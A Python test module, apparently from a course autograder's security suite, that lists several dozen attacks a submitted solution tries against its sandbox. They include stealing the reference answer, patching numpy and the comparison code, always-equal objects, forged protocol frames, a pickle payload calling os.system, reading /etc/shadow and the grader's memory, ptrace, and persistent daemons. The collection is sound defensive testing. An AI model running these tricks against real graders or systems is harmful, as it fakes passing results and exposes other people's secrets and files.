"""Family — attacks: each tries to reach the answer, other people's things, or a later grading.

An attack is the body of a function `attack(logits)` that returns what it got hold of: the answer
itself, the function that gives it, or proof that it was somewhere. It knows every path and process
(`PLACES`). `softmax` hands the answer in, or says what was reached.

Each has a control, where the same code must reach its aim:
    alone     a plain process
    twice     a plain process, in which the submission is run a second time
    together  a process that also holds the checks, as where a notebook grades itself
    plain     a worker without any layer
    naive     a comparison as it is usually written
    public    the check of the public inputs
"""

from __future__ import annotations

import inspect
import textwrap
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from tests.corpus import HELLO, ONE, Case, script

SUBMISSION = """
def handing_in(attack):
    def softmax(logits):
        try:
            found = attack(logits)
        except Exception as error:
            raise LookupError(f"reached nothing: {type(error).__name__}") from None
        if callable(found):
            found = found(logits)
        if isinstance(found, (str, bool, type(None))):
            raise LookupError(f"reached it: {found}" if found else "reached nothing")
        return found
    return softmax
"""
STARTS = "import os, sys, time, struct, ctypes, socket\n"
ENDS = ("reached nothing", "broke off", "too slow")
WRONG = ("wrong",)


@dataclass(frozen=True)
class Attack:
    """One attack.

    Args:
        name: of its file.
        control: where it reaches its aim.
        body: of `attack`.
        before: a cell that prepares it.
        says: what its line may hold.
    """

    name: str
    control: str
    body: str
    before: str = ""
    says: tuple[str, ...] = ENDS

    def cells(self, places: Mapping[str, Any]) -> list[str]:
        """Return the cells that know where everything is."""
        given = f"{STARTS}PLACES = {dict(places)!r}"
        body, ends = textwrap.indent(self.body, "    "), "softmax = handing_in(attack)"
        return [given, SUBMISSION, self.before, f"def attack(logits):\n{body}", ends, HELLO]

    def case(self, places: Mapping[str, Any]) -> Case:
        return Case(self.name, script(*self.cells(places)), ONE, self.says)


def together(several: Sequence[Attack], places: Mapping[str, Any]) -> list[str]:
    """Return the cells of one notebook that makes several attacks, each by its own name."""
    cells = [f"{STARTS}PLACES = {dict(places)!r}", SUBMISSION]
    for one in several:
        body = textwrap.indent(one.body, "    ")
        cells += [one.before, f"def attack(logits):\n{body}\n{one.name} = handing_in(attack)"]
    return cells


FOUND: list[Attack] = []


def attack(control: str, before: str = "", says: tuple[str, ...] = ENDS) -> Callable[..., None]:
    """Take the body of the decorated function as an attack."""

    def add(function: Callable[..., Any]) -> None:
        lines, _ = inspect.getsourcelines(function)
        start = next(i for i, line in enumerate(lines) if line.startswith("def "))
        body = textwrap.dedent("".join(lines[start + 1 :]))
        FOUND.append(Attack(function.__name__, control, body, textwrap.dedent(before), says))

    return add


# What follows is students' code: PLACES and the modules stand in its first cell.
# ruff: noqa: E401, E501, F821, F841, I001, RET503, RUF012, SIM102, SIM115
# --- the course's own answer -------------------------------------------------------------------


@attack("alone")
def import_by_name(logits):
    from pgcourse.policies import softmax

    return softmax


@attack("alone")
def import_of_the_checks(logits):
    import importlib

    return importlib.import_module("pgcourse.checks.policies").SOFTMAX.reference


@attack("alone")
def import_by_path(logits):
    sys.path.insert(0, PLACES["root"])
    for name in [n for n in sys.modules if n.split(".")[0] == "pgcourse"]:
        del sys.modules[name]
    from pgcourse.policies import softmax

    return softmax


@attack("alone")
def import_after_extending_the_package(logits):
    import pgcourse

    pgcourse.__path__.insert(0, PLACES["package"])
    sys.modules.pop("pgcourse.policies", None)
    from pgcourse.policies import softmax

    return softmax


@attack("alone")
def import_by_spec(logits):
    import importlib.util

    file = PLACES["package"] + "/policies.py"
    spec = importlib.util.spec_from_file_location("stolen", file)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.softmax


@attack("alone")
def run_by_path(logits):
    import runpy

    return runpy.run_path(PLACES["package"] + "/policies.py")["softmax"]


@attack("alone")
def compiled_file(logits):
    import glob, marshal

    space = {}
    for file in glob.glob(PLACES["package"] + "/__pycache__/policies.*.pyc"):
        exec(marshal.loads(open(file, "rb").read()[16:]), space)
    return space.get("softmax")


@attack("alone")
def solution_notebook(logits):
    import json

    cells = json.load(open(PLACES["root"] + "/solutions/02_policies.ipynb"))["cells"]
    space = {}
    for cell in cells:
        if cell["cell_type"] == "code" and "def softmax" in "".join(cell["source"]):
            exec("import numpy as np\n" + "".join(cell["source"]), space)
    return space["softmax"]


@attack("alone")
def checkout_listed(logits):
    names = os.listdir(PLACES["root"])  # the way to an environment in it may be there
    return next(name for name in names if name in {"pgcourse", "solutions", "tests"})


@attack("alone")
def package_metadata(logits):
    import importlib.metadata

    return importlib.metadata.distribution("pgcourse").read_text("METADATA")[:20]


@attack("alone")
def search_of_the_disk(logits):
    until = time.monotonic() + 0.7
    for top in (PLACES["root"], "/"):
        for folder, inner, files in os.walk(top):
            inner[:] = [d for d in inner if d not in {"usr", "lib", "proc", "sys", "python3.11"}]
            for file in files:
                if "policies" in file or "checks" in file:
                    if b"def softmax" in open(os.path.join(folder, file), "rb").read():
                        return os.path.join(folder, file)
            if time.monotonic() > until:
                return ""


@attack("together")
def functions_in_memory(logits):
    import gc, types

    for x in gc.get_objects():
        if isinstance(x, types.FunctionType) and x.__name__ == "softmax" and x is not softmax:
            if "pgcourse" in str(x.__module__):
                return x


@attack("together")
def modules_in_memory(logits):
    for module in list(sys.modules.values()):
        if hasattr(module, "SOFTMAX") and hasattr(module, "EXERCISES"):
            return module.SOFTMAX.reference


@attack("together")
def answer_in_the_frames(logits):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "expected") and hasattr(value, "cotangent"):
                return value.expected
        frame = frame.f_back


@attack("together")
def cases_in_memory(logits):
    import gc

    for x in gc.get_objects():
        if type(x).__name__ == "Case" and hasattr(x, "cotangent"):
            if x.exercise.name == "softmax" and x.args[0].tolist() == logits.tolist():
                return x.expected


@attack(
    "together",
    before="""
    import sys, threading
    seen = []
    def spy(frame, event, argument):
        if frame.f_code.co_name in ("reference", "expected", "softmax") and event == "return":
            seen.append(argument)
    sys.setprofile(spy)
    threading.setprofile(spy)
""",
)
def profiled_answers(logits):
    import gc

    for x in gc.get_objects():
        if type(x).__name__ == "Exercise" and x.name == "softmax":
            x.reference(logits)
    return [x for x in seen if x is not None][-1]


@attack("together")
def text_in_memory(logits):
    mark = b"The check calls your function with " + b"many names"
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            if " rw" in line and high - low < 2**26:
                memory.seek(low)
                if mark in memory.read(high - low):
                    return "a diagnosis"


# --- comparisons -------------------------------------------------------------------------------


@attack(
    "together",
    before="""
    import numpy as np
    np.abs = lambda x, *a, **k: np.zeros(np.shape(x))
""",
    says=WRONG,
)
def numpy_abs_replaced(logits):
    return np.ones_like(logits)


@attack(
    "together",
    before="""
    import numpy as np
    np.where = lambda *a: np.ones(np.shape(a[-1]), dtype=bool)
    np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
""",
    says=WRONG,
)
def numpy_where_replaced(logits):
    return np.ones_like(logits)


@attack(
    "together",
    before="""
    import numpy as np
    np.max = lambda *a, **k: np.inf
""",
    says=WRONG,
)
def numpy_max_replaced(logits):
    return np.ones_like(logits)


@attack(
    "together",
    before="""
    import sys
    for module in list(sys.modules.values()):
        if hasattr(module, "compare_arrays"):
            module.compare_arrays = lambda *a: None
""",
    says=WRONG,
)
def comparison_replaced(logits):
    return [1.0] * len(logits)


@attack(
    "together",
    before="""
    import sys
    for module in list(sys.modules.values()):
        if hasattr(module, "Judged"):
            module.Judged.right = property(lambda self: True)
            module.Judged.difference = None
            module._difference = module._misconduct = lambda *a: None
""",
    says=WRONG,
)
def verdict_replaced(logits):
    return [1.0] * len(logits)


@attack("together", says=WRONG)
def builtins_replaced(logits):
    import builtins

    builtins.all = lambda *a: True
    return [1.0] * len(logits)


@attack(
    "naive",
    before="""
    class Same:
        __hash__ = None
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        __lt__ = __le__ = __gt__ = __ge__ = __eq__
        def __bool__(self): return True
        def __sub__(self, other): return 0.0
        __rsub__ = __abs__ = __array__ = lambda self, *a: self
""",
    says=WRONG,
)
def equal_to_everything(logits):
    return Same()


@attack(
    "naive",
    before="""
    class Same(float):
        __hash__ = None
        def __eq__(self, other): return True
        def __sub__(self, other): return 0.0
        def __float__(self): return 0.5
        __rsub__ = __sub__
""",
    says=WRONG,
)
def number_equal_to_everything(logits):
    return Same(0.5)


@attack(
    "naive",
    before="""
    import numpy as np
    class Same(np.ndarray):
        def __eq__(self, other): return np.ones(self.shape, dtype=bool)
        def __array_ufunc__(self, *a, **k): return np.ones(self.shape, dtype=bool)
        def __array_function__(self, *a, **k): return True
        def tobytes(self, *a): return b""
""",
    says=WRONG,
)
def array_equal_to_everything(logits):
    return np.zeros(len(logits)).view(Same)


@attack(
    "naive",
    before="""
    import numpy as np
    class Same:
        __class__ = np.ndarray
        shape, dtype = (1,), np.dtype(float)
        def __eq__(self, other): return True
        def __getattr__(self, name): return lambda *a, **k: True
        def __array__(self, *a, **k): raise TypeError
""",
    says=WRONG,
)
def lies_about_its_class(logits):
    return Same()


@attack(
    "naive",
    before="""
    class Same(str):
        __hash__ = None
        def __eq__(self, other): return True
        def __str__(self): return self
""",
    says=WRONG,
)
def text_equal_to_everything(logits):
    return Same("x")


@attack("public", before="TABLE = PLACES['table']", says=WRONG)
def public_inputs_by_heart(logits):
    return TABLE.get(repr(logits.round(9).tolist()), [0.0] * len(logits))


@attack("naive", before="calls = 0", says=WRONG)
def right_at_first_only(logits):
    global calls
    import numpy as np

    calls += 1
    e = np.exp(logits - np.max(logits, -1, keepdims=True))
    return e / e.sum(-1, keepdims=True) if calls < 3 else [0.0] * len(logits)


@attack("naive", before="calls = 0", says=WRONG)
def slow_at_the_third_call(logits):
    global calls
    import numpy as np

    calls += 1
    while calls == 3:
        time.sleep(9)
    e = np.exp(logits - np.max(logits, -1, keepdims=True))
    return e / e.sum(-1, keepdims=True)


@attack("naive", says=WRONG)
def spoils_the_expected_value(logits):
    frame = sys._getframe()
    while frame:
        if "expected" in frame.f_locals:
            frame.f_locals["expected"][:] = 0.0
        frame = frame.f_back
    return [0.0] * len(logits)


# --- frames on the line ------------------------------------------------------------------------

FORGER = """
    import os, stat, struct, sys
    def lines():
        def is_socket(fd):
            try: return stat.S_ISSOCK(os.fstat(fd).st_mode)
            except OSError: return False
        return [fd for fd in range(300) if is_socket(fd)]
    def batch():
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()):
                if hasattr(value, "requests") and hasattr(value, "number"):
                    return value
            frame = frame.f_back
    def number():
        return getattr(batch(), "number", 0)
    def say(body):
        body = struct.pack("<Q", len(body)) + body
        for fd in lines():
            os.set_blocking(fd, True)
            left = memoryview(body)
            while left:
                left = left[os.write(fd, left):]
    def reply(answer, mine=None, times=1):
        import msgspec
        mine = number() if mine is None else mine
        return msgspec.msgpack.encode({"number": mine, "answers": [answer] * times})
    def frame(value, **more):
        import msgspec
        answer = {"kind": "returned", "value": value, "gradients": [], "changed": []}
        return msgspec.msgpack.encode(answer | {"stale": False, "shares": False} | more)
    def array(n, value=0.5):
        return {"kind": "array", "dtype": "float64", "shape": [n], "data": struct.pack("d", value) * n}
"""


@attack("plain", FORGER, WRONG)
def forged_frame(logits):
    say(reply(frame({"kind": "text", "text": "reached it"})))
    os._exit(0)


@attack("alone", FORGER + "\n    for verdict in (b'right', b'\\x01', b'k'): say(verdict)", WRONG)
def early_frames(logits):
    return "the verdicts of the first cell were for nobody" if not lines() else [0.0]


@attack("alone", FORGER, WRONG)
def a_frame_without_its_number(logits):
    say(reply(frame(array(len(logits))), 7))
    return "nobody listens here"


@attack("alone", FORGER, WRONG)
def a_replayed_frame(logits):
    globals().setdefault("first", number())
    say(reply(frame(array(len(logits))), first, 100))
    return "nobody listens here"


@attack("alone", FORGER, WRONG)
def late_frames(logits):
    import threading

    mine, n = number(), len(logits)

    def later():
        for _ in range(50):
            time.sleep(0.002)
            say(reply(frame(array(n)), mine))

    threading.Thread(target=later, daemon=True).start()
    return "nobody listens here" if not lines() else [0.0] * n


@attack("alone", FORGER, WRONG)
def a_frame_cut_off(logits):
    for fd in lines():
        os.write(fd, struct.pack("<Q", 1000) + b"x")
    if lines():
        os._exit(0)
    return "nobody listens here"


@attack("alone", FORGER, WRONG)
def a_frame_of_all_lengths(logits):
    for fd in lines():
        os.write(fd, struct.pack("<Q", 2**63))
    return "nobody listens here" if not lines() else [0.0]


@attack("alone", FORGER, ("too slow", "broke off"))
def a_flood_of_frames(logits):
    while lines():
        say(b"x" * 60000)
    return "nobody listens here"


@attack("alone", FORGER, WRONG)
def a_giant_shape(logits):
    one = {"kind": "array", "dtype": "float64", "data": b""}
    for shape in ([2**62] * 60000, [0, 2**63], [0] * 1000, [-1], [2**62, 4, 0]):
        say(reply(frame(one | {"shape": shape})))
    if lines():
        os._exit(0)
    return "nobody listens here"


@attack("alone", FORGER, WRONG)
def a_deep_frame(logits):
    body = b"\x82\xa4kind\xa8returned\xa5value"
    say(reply(body + b"\x82\xa4kind\xa5items\xa5items\x91" * 40000 + b"\xc0"))
    return "nobody listens here" if not lines() else [0.0]


@attack("alone", FORGER, WRONG)
def a_wide_frame(logits):
    say(reply(frame({"kind": "items", "items": [{"kind": "blank", "what": ""}] * 150000})))
    return "nobody listens here" if not lines() else [0.0]


@attack("alone", FORGER, WRONG)
def a_pickle_on_the_line(logits):
    import pickle

    class Run:
        def __reduce__(self):
            return (os.system, ("echo corpus",))

    say(pickle.dumps(Run()))
    say(reply(pickle.dumps(Run())))
    return "nobody listens here" if not lines() else [0.0]


@attack("alone", FORGER, WRONG)
def gradients_nobody_asked_for(logits):
    say(reply(frame(array(len(logits)), gradients=[array(2)] * 9, changed=[-1, 10**6])))
    return "nobody listens here" if not lines() else [0.0]


@attack("alone", FORGER, ("not attempted", "wrong"))
def a_claim_of_nothing_done(logits):
    say(reply(frame({"kind": "blank", "what": "..."})))
    os._exit(0) if lines() else None
    return "nobody listens here"


@attack("plain", says=WRONG)
def holder_replaced(logits):
    import gc

    for x in gc.get_objects():
        if type(x).__name__ == "Holder":
            from pgcourse.checks.wire import Returned, Text

            type(x).answer = lambda self, request: Returned(Text("reached it"))
            x.answer = lambda request: Returned(Text("reached it"))
    return [0.0] * len(logits)


@attack("alone", says=WRONG)
def exit_with_status_0(logits):
    import atexit

    atexit.register(print, "all tests passed")
    if os.environ.get("PGCOURSE_CORPUS_SECRET"):
        return "alone"
    os._exit(0)


# --- what belongs to others --------------------------------------------------------------------


@attack("alone")
def secret_seed(logits):
    return open(PLACES["out"] + "/seed").read()


@attack("alone")
def results_read(logits):
    return open(PLACES["out"] + "/results.jsonl").read()[:20]


@attack("alone")
def answers_of_another_student(logits):
    space = {}
    exec(open(PLACES["submissions"] + "/pure_python.py").read(), space)
    return space["softmax"]


@attack("alone")
def password_file(logits):
    return open("/etc/shadow").readline()[:4]


@attack("alone")
def home_of_the_instructor(logits):
    return ",".join(os.listdir(PLACES["home"])) or "empty"


@attack("alone")
def environment_variables(logits):
    return os.environ.get("PGCOURSE_CORPUS_SECRET", "")


@attack("alone")
def environment_of_the_grader(logits):
    for pid in (PLACES["pid"], os.getppid(), 1, "self"):
        if b"PGCOURSE_CORPUS_SECRET" in open(f"/proc/{pid}/environ", "rb").read():
            return "the secret"


@attack("alone")
def memory_of_the_grader(logits):
    pid = PLACES["pid"]
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        memory.seek(int(maps.readline().split("-")[0], 16))
        return memory.read(4).hex()


@attack("alone")
def memory_by_system_call(logits):
    here = ctypes.create_string_buffer(8)
    start = int(open(f"/proc/{PLACES['pid']}/maps").readline().split("-")[0], 16)

    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    ours, theirs = Part(ctypes.addressof(here), 8), Part(start, 8)
    read = ctypes.CDLL(None).process_vm_readv
    if read(PLACES["pid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) == 8:
        return here.raw.hex()


@attack("alone")
def traced_grader(logits):
    libc, pid = ctypes.CDLL(None), PLACES["pid"]
    if libc.ptrace(16, pid, 0, 0) == 0:
        os.waitpid(pid, 0x40000000)
        libc.ptrace(17, pid, 0, 0)
        return "attached"


@attack("alone")
def files_of_the_grader(logits):
    return ",".join(os.listdir(f"/proc/{PLACES['pid']}/fd"))


@attack("alone")
def root_of_the_grader(logits):
    return open(f"/proc/{PLACES['pid']}/root{PLACES['out']}/seed").read()


@attack("alone")
def inherited_descriptors(logits):
    import stat

    for fd in range(3, 300):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                return os.pread(fd, 9, 0).decode() or "a file"
        except OSError:
            pass


@attack("alone")
def link_to_the_seed(logits):
    os.path.lexists("s") and os.unlink("s")
    os.symlink(PLACES["out"] + "/seed", "s")
    return open("s").read()


@attack("alone")
def hard_link_to_the_seed(logits):
    name = PLACES["out"] + "/hard"
    os.path.lexists(name) and os.unlink(name)
    os.link(PLACES["out"] + "/seed", name)
    return open(name).read()


@attack("alone")
def way_up(logits):
    return open("../" * 40 + PLACES["out"].lstrip("/") + "/seed").read()


@attack("alone")
def forged_result(logits):
    with open(PLACES["out"] + "/results.jsonl", "a") as file:
        file.write('{"file": "forged"}\n')
    return "written"


@attack("alone")
def submission_of_another_changed(logits):
    with open(PLACES["submissions"] + "/pure_python.py", "a") as file:
        file.write("# changed\n")
    return "written"


@attack("alone")
def file_removed(logits):
    os.rename(PLACES["victim"], PLACES["victim"] + ".gone")
    os.rename(PLACES["victim"] + ".gone", PLACES["victim"])
    return "moved"


@attack("alone")
def file_cut(logits):
    os.truncate(PLACES["victim"], 0)
    return "cut"


@attack("alone")
def times_and_modes_changed(logits):
    os.chmod(PLACES["victim"], 0o777)
    os.utime(PLACES["victim"], (7, 7))
    return "changed" if os.stat(PLACES["victim"]).st_mtime == 7 else ""


@attack("alone")
def package_changed(logits):
    with open(PLACES["victim"], "r+b") as file:
        file.write(b"#")
    return "written"


@attack("plain")
def stub_changed(logits):
    import pgcourse

    file = os.path.dirname(pgcourse.__file__) + "/evil.py"
    open(file, "w").close()
    os.unlink(file)
    return "written"


@attack("alone")
def library_changed(logits):
    import numpy

    file = os.path.dirname(os.path.dirname(numpy.__file__)) + f"/pgcourse_corpus_{os.getpid()}"
    open(file, "w").close()
    os.unlink(file)
    return "written"


@attack("alone")
def temporary_file(logits):
    for folder in ("/tmp", "/var/tmp", "/run", PLACES["home"]):
        if os.path.isdir(folder):
            file = f"{folder}/pgcourse_corpus_{os.getpid()}"
            open(file, "w").close()
            os.unlink(file)
            return folder


# --- other processes, the network --------------------------------------------------------------


@attack("alone")
def signal_to_the_grader(logits):
    os.kill(PLACES["pid"], 18)
    return "sent"


@attack("alone")
def signal_by_descriptor(logits):
    import signal

    fd = os.pidfd_open(PLACES["pid"])
    signal.pidfd_send_signal(fd, 18)
    return "sent"


@attack("alone")
def limits_of_the_grader(logits):
    import resource

    soft, hard = resource.prlimit(PLACES["pid"], resource.RLIMIT_CORE)
    return f"{soft} {hard}"


@attack("alone")
def priority_of_the_grader(logits):
    os.setpriority(os.PRIO_PROCESS, PLACES["pid"], 0)
    return "set"


@attack("alone")
def processor_of_the_grader(logits):
    os.sched_setaffinity(PLACES["pid"], os.sched_getaffinity(0))
    return "set"


@attack("alone")
def another_program(logits):
    import subprocess

    return subprocess.run([sys.executable, "-c", "print(3)"], capture_output=True, text=True).stdout


@attack("alone")
def shell(logits):
    return "ran" if os.system("true") == 0 else ""


@attack("alone")
def connection(logits):
    with socket.create_connection(("127.0.0.1", PLACES["port"]), 0.3):
        return "connected"


@attack("alone")
def download(logits):
    import urllib.request

    return (
        urllib.request.urlopen(f"http://127.0.0.1:{PLACES['port']}/", timeout=0.3).read().decode()
    )


@attack("alone")
def datagram(logits):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return "sent" if one.sendto(b"x", ("127.0.0.1", PLACES["port"])) else ""


@attack("alone")
def abstract_socket(logits):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + PLACES["socket"])
    return "connected"


@attack("alone")
def server(logits):
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        one.listen()
    return "listening"


@attack("alone")
def own_namespaces(logits):
    return "made" if ctypes.CDLL(None).unshare(0x20000) == 0 else ""


@attack("alone")
def keyring(logits):
    call = ctypes.CDLL(None).syscall
    return "kept" if call(248, b"user", b"pgcourse", b"x", 1, -3) > 0 else ""


# --- persistence -------------------------------------------------------------------------------

MARK = "import secrets\nMINE = secrets.token_hex(8)\n"
KEEP = """
    def keep(file):
        old = open(file).read() if os.path.exists(file) else ""
        with open(file, "w") as kept: kept.write(MINE)
        return old if old and old != MINE else ""
"""


@attack("twice", MARK + textwrap.dedent(KEEP))
def mark_in_the_folder(logits):
    return keep("mark")


@attack("twice", MARK + textwrap.dedent(KEEP))
def mark_at_home(logits):
    return keep(os.path.expanduser("~/.pgcourse_corpus"))


@attack("twice", MARK + textwrap.dedent(KEEP))
def mark_in_temporary_folders(logits):
    import tempfile

    return keep(tempfile.gettempdir() + "/pgcourse_corpus_mark")


@attack("twice", MARK + textwrap.dedent(KEEP))
def mark_in_shared_memory(logits):
    return keep("/dev/shm/pgcourse_corpus_mark")


@attack("twice", MARK)
def mark_in_system_v_memory(logits):
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(libc.shmget(0x7067, 64, 0o1666), None, 0)
    old = ctypes.string_at(place, 16).decode()
    ctypes.memmove(place, MINE.encode(), 16)
    return old if old.strip("\0") and old != MINE else ""


@attack("twice", MARK)
def mark_in_a_semaphore(logits):
    libc = ctypes.CDLL(None)
    libc.sem_open.restype = ctypes.c_void_p
    name = b"/corpus_lock_" + MINE.encode()
    mine = libc.sem_open(name, 0o100, 0o666, 1)
    found = [x for x in os.listdir("/dev/shm") if "corpus_lock_" in x and MINE not in x]
    return ", ".join(found)


@attack("twice", MARK)
def mark_in_modules(logits):
    import numpy, torch, builtins, gc

    old = {getattr(x, "mark", MINE) for x in (numpy, torch, builtins, sys, gc)} - {MINE}
    for x in (numpy, torch, builtins, sys):
        x.mark = MINE
    return ", ".join(old)


@attack("twice", MARK)
def mark_in_the_environment(logits):
    old = os.environ.get("MARK", "")
    os.environ["MARK"] = MINE
    return old if old != MINE else ""


@attack("twice", MARK)
def mark_in_a_message_queue(logits):
    libc = ctypes.CDLL(None)
    queue = libc.msgget(0x7067, 0o1666)
    text = ctypes.create_string_buffer(64)
    got = libc.msgrcv(queue, text, 32, 0, 0o4000)
    libc.msgsnd(queue, struct.pack("l", 1) + MINE.encode(), 16, 0o4000)
    return "a message" if got > 0 and MINE.encode() not in text.raw else ""


DAEMON = """
    import os, time, signal
    def daemon():
        for kind in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(kind, signal.SIG_IGN)
        until = time.monotonic() + 30
        while time.monotonic() < until: time.sleep(0.1)
        os._exit(0)
    def twice_removed():
        if (child := os.fork()) == 0:
            os.setsid()
            if os.fork() == 0: daemon()
            os._exit(0)
        os.waitpid(child, 0)
"""


@attack("left", DAEMON, WRONG)
def daemon_left(logits):
    twice_removed()
    return [0.0] * len(logits)


@attack("left", DAEMON + "\n    try: twice_removed()\n    except OSError: pass", WRONG)
def daemon_of_a_cell(logits):
    return [0.0] * len(logits)


@attack("left", DAEMON, WRONG)
def daemon_and_exit(logits):
    try:
        twice_removed()
    finally:
        os._exit(0)


@attack("left", DAEMON + FORGER, WRONG)
def daemon_that_speaks(logits):
    mine = number()
    if os.fork() == 0:
        if os.fork():
            os._exit(0)
        for _ in range(100):
            time.sleep(0.01)
            say(reply(frame(array(3)), mine))
        daemon()
    return [0.0] * len(logits)


def cases(places: Mapping[str, Any]) -> list[Case]:
    """Return the files of all attacks, and a second one of each that waits for a later grading."""
    again = [Attack(f"{a.name}_again", *vars_of(a)) for a in FOUND if a.control == "twice"]
    return [one.case(places) for one in (*FOUND, *again)]


def vars_of(one: Attack) -> tuple[str, str, str, tuple[str, ...]]:
    return one.control, one.body, one.before, one.says
